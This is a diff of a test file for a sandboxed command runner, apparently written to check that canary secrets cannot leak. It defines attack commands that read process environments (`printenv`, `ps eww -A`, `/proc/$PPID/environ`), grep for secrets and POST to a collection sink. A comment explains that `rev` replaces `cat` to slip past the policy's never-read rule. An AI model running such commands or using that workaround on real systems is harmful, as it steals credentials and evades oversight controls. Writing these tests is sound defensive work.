@@ -27,7 +27,9 @@ const canUnshare = isRoot && spawnSync("unshare", ["--user", "--map-root-user", 
 const skipWhy = !isRoot ? "not root: cannot build runner configurations" : !canUnshare ? "this machine refuses user/PID namespaces even to root" : "";
 if (skipWhy) console.warn(`runner-configurations: skipped (${skipWhy})`);
 
-const POLICY = { allow: ["printenv", "cat *", "ps *", "grep *", "npm test"], network: true };
+// `rev` is a reader the policy does not know: the policy refuses `cat /proc/*/environ` itself (builtin:never-read),
+// and this test is about what the kernel shows a command that gets past the policy.
+const POLICY = { allow: ["printenv", "cat *", "rev *", "ps *", "grep *", "npm test"], network: true };
 
 /** What the attacks look for: the random part of each of this world's secrets (the whole secret, or the word
  * CANARY, in a command would itself count as a leak; other tests' canaries on this machine are not ours). */
@@ -69,7 +71,7 @@ fetch(${JSON.stringify(`${sinkUrl}/collect`)}, { method: "POST", body: JSON.stri
 
 const ATTACKS = (parts: string[]) => ({
   printenv: "printenv",
-  ppid: "cat /proc/$PPID/environ",
+  ppid: "rev /proc/$PPID/environ",
   ps: "ps eww -A",
   grep: `grep -r -a -s -e ${parts.join(" -e ")} /home /tmp`,
 });
